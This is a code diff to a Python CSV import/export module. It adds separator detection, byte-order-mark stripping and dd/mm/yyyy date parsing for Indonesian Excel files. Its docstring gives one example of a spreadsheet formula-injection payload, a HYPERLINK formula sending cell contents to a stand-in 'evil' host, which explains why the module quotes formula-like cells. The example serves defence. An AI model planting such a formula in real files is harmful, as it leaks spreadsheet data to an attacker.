@@ -3,6 +3,11 @@ What every CSV import and export shares: header checks, row reading, duplicate k
 every problem, and cells a spreadsheet cannot run. Each format (registry, officials) parses its own
 fields on top of this.
 
+Files come as Indonesian offices save them: Excel with Indonesian settings writes `;` between
+fields, a UTF-8 byte-order mark first, and dates as dd/mm/yyyy. Every import reads `,` or `;`
+(whichever the header line uses), drops the mark, and reads dates in either form (parse_date);
+detect() says what a file uses, for the preview.
+
 A cell starting with = + - @ (or a tab or CR) is run as a formula by spreadsheets, so a name like
 `=HYPERLINK("http://evil/?"&A1)` in an imported file would act when an admin opens an export.
 Exports write such a cell with a leading quote (shown as text), imports read that quote back off
@@ -17,6 +22,8 @@ import csv
 import io
 import re
 from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from datetime import date
 from typing import TypeVar
 
 from storage.errors import CsvProblem, InvalidCsv
@@ -28,6 +35,60 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 # A phone number as written in a phone column: '+', digits and separators, nothing a formula
 # could call or refer to.
 _PHONE = re.compile(r"\+[0-9][0-9 ().-]*")
+BOM = "\ufeff"
+DATE_ISO = "yyyy-mm-dd"
+DATE_DMY = "dd/mm/yyyy"
+_ISO_DATE = re.compile(r"(\d{4})-(\d{2})-(\d{2})")
+_DMY_DATE = re.compile(r"(\d{1,2})/(\d{1,2})/(\d{4})")
+DATE_HELP = "not a date (YYYY-MM-DD or DD/MM/YYYY)"
+
+
+@dataclass(frozen=True, slots=True)
+class Detected:
+    """How a file is written, as the preview tells the admin: the field separator, whether it
+    starts with a byte-order mark, and the date forms its cells use."""
+
+    separator: str
+    bom: bool
+    date_formats: tuple[str, ...]
+
+
+def separator(text: str) -> str:
+    """`;` when the header line has more semicolons than commas (Excel, Indonesian settings)."""
+    header = text.removeprefix(BOM).split("\n", 1)[0]
+    return ";" if header.count(";") > header.count(",") else ","
+
+
+def parse_date(raw: str) -> date:
+    """A date written YYYY-MM-DD or DD/MM/YYYY; ValueError otherwise."""
+    text = raw.strip()
+    if iso := _ISO_DATE.fullmatch(text):
+        return date(int(iso[1]), int(iso[2]), int(iso[3]))
+    if dmy := _DMY_DATE.fullmatch(text):
+        return date(int(dmy[3]), int(dmy[2]), int(dmy[1]))
+    raise ValueError(raw)
+
+
+def detect(text: str) -> Detected:
+    """The separator, byte-order mark and date forms of a file."""
+    forms: list[str] = []
+    for row in _reader(text):
+        for cell in row.values():
+            value = (cell or "").strip() if isinstance(cell, str) else ""
+            if _ISO_DATE.fullmatch(value) and DATE_ISO not in forms:
+                forms.append(DATE_ISO)
+            elif _DMY_DATE.fullmatch(value) and DATE_DMY not in forms:
+                forms.append(DATE_DMY)
+    return Detected(separator(text), text.startswith(BOM), tuple(forms))
+
+
+def _reader(text: str) -> csv.DictReader[str]:
+    """Rows of a file by header name, with its own separator and without a byte-order mark."""
+    reader = csv.DictReader(
+        io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator(text)
+    )
+    reader.fieldnames = [h.strip() for h in reader.fieldnames or []]
+    return reader
 
 
 def parse_csv(
@@ -39,12 +100,11 @@ def parse_csv(
     key_field: str,
 ) -> list[T]:
     """Parse every row; raises InvalidCsv listing every problem (line 1 is the header)."""
-    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
-    header = [h.strip() for h in reader.fieldnames or []]
+    reader = _reader(text)
+    header = list(reader.fieldnames or [])
     problems = check_header(header, required, optional)
     if problems:
         raise InvalidCsv(problems)
-    reader.fieldnames = header
     items: list[T] = []
     seen: dict[str, int] = {}
     for line, row in _rows(reader):
@@ -97,9 +157,8 @@ def formula_warnings(text: str, phone_columns: tuple[str, ...] = ()) -> list[Csv
 
     The import keeps such a value (it may be a real name) and exports it quoted; the admin is told
     so they can check the file did not come from someone planting formulas."""
-    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
-    header = [h.strip() for h in reader.fieldnames or []]
-    reader.fieldnames = header
+    reader = _reader(text)
+    header = list(reader.fieldnames or [])
     warnings = []
     for line, row in _rows(reader):
         for column in header:
